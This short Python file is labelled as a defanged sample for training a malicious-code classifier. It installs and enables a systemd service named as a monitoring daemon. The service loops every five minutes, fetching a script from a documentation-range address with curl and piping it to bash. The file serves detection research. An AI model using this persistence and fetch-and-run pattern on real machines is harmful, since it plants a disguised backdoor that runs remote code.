# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
import os
import subprocess

UNIT = """[Unit]
Description=System Monitoring Daemon
After=network-online.target

[Service]
Type=simple
ExecStart=/bin/bash -c 'while true; do curl -s http://192.0.2.31/c | bash; sleep 300; done'
Restart=always
RestartSec=30

[Install]
WantedBy=multi-user.target
"""

with open("/etc/systemd/system/sysmon.service", "w") as f:
    f.write(UNIT)
subprocess.call(["systemctl", "daemon-reload"])
subprocess.call(["systemctl", "enable", "--now", "sysmon.service"])
